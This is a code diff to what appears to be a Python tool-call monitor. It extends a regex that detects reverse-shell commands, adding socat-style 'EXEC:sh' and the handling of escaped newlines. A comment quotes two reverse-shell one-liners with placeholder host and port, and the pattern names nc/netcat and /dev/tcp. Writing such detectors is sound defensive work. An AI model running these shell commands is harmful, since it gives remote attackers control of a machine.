@@ -64,6 +64,7 @@ _RESOLVERS = frozenset(("1.1.1.1", "1.0.0.1", "8.8.8.8", "8.8.4.4", "9.9.9.9"))
 # ``bash -i >& /dev/tcp/HOST/PORT``, ``nc HOST PORT -e /bin/sh``.
 _REMOTE_SHELL = re.compile(
     r"(?<![\w.-])(?:ba|da|z|k)?sh\b[^\n;|\\]{0,40}(?:[<>]&?|&>)\s?/dev/(?:tcp|udp)/"
+    r"|\bEXEC:['\"]?(?:/\w{1,20}){0,3}/?(?:ba|da|z|k)?sh\b"
     r"|\b(?:nc|ncat|netcat)\s[^\n;|\\]{0,120}(?<![\w-])-\w{0,6}[ec]\s{1,4}(?:/\w{1,20}){0,3}/?(?:ba|da|z|k)?sh\b"
 )
 _MAX_TEXT = 65536
@@ -115,7 +116,10 @@ class SeenHosts:
         findings: list[Finding] = []
         at_most = Severity.BLOCK if ledger.is_task else Severity.FLAG
         connects = call.of(ConnectHost)
-        hands_shell = bool(connects) and _REMOTE_SHELL.search(call.raw[:_MAX_TEXT]) is not None
+        hands_shell = (
+            bool(connects)
+            and _REMOTE_SHELL.search(call.raw[:_MAX_TEXT].replace("\\n", "\n")) is not None
+        )
         for action in connects:
             if len(findings) >= _ENOUGH:
                 break
